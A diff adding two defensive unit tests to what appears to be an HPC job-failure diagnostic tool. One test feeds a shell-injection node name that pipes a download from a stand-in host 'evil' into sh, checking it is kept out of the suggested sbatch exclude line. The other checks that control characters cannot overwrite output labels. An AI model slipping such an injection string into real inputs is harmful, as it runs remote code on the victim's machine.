@@ -279,6 +279,29 @@ def test_a_kill_keeps_the_advice_on_memory():
     assert "cluster.memory_gb" in "\n".join(lines_of(explanation_of(job(signalled(1, 3, signal.SIGKILL)))))
 
 
+def test_only_names_that_a_node_can_have_go_into_the_line_that_leaves_them_out():
+    explanation = explanation_of(job(raised(0, 6, *LOST), silent(1)))
+    assert explanation.verdict is not None
+    hostile = "n1'; curl evil|sh; echo '"
+    both = replace(explanation, verdict=replace(explanation.verdict, bad_nodes=[hostile, "n2"]))
+    assert [line for line in lines_of(both) if "Leave it out" in line] == [
+        "do:       Leave it out: 'cluster.exclude=\"n2\"' for hpcmm.launch, --exclude=n2 for sbatch."
+    ]
+    assert values_of(both)["exclude"] == ["n2"]
+    alone = replace(explanation, verdict=replace(explanation.verdict, bad_nodes=[hostile]))
+    assert not [line for line in lines_of(alone) if "Leave it out" in line]
+
+
+@pytest.mark.parametrize("control", ["\r", "\b" * 40, "\0\r"])
+def test_no_record_takes_back_the_label_of_a_line(control):
+    explanation = explanation_of(job(raised(0, 6, "RuntimeError", "it broke")))
+    assert explanation.verdict is not None
+    given = replace(explanation, verdict=replace(explanation.verdict, node=f"n0{control}"))
+    (first,) = [line for line in lines_of(given) if " on n0" in line]
+    assert first.startswith("first:    rank 0 on n0")
+    assert first.isprintable()
+
+
 NSYS = [
     "Importer error status: The importer binary and its dependencies were not found.",
     "Unable to retrieve the importer version: skipping importation of the QDSTRM file.",
